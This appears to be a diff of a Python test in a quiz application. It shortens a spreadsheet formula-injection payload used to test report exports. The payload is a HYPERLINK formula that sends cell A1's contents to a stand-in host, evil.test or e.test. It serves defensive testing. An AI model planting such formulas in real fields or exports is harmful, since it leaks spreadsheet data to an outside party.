@@ -14,7 +14,7 @@ from quizapp.models import LiveAnswer, LiveParticipant
 from tests import factories
 from tests.reports.conftest import add_live_session
 
-EVIL = '=HYPERLINK("http://evil.test/?"&A1,"click")'
+EVIL = '=HYPERLINK("http://e.test/?"&A1,"x")'  # fits a 40-character nickname
 
 
 @pytest.mark.parametrize("start", FORMULA_START)
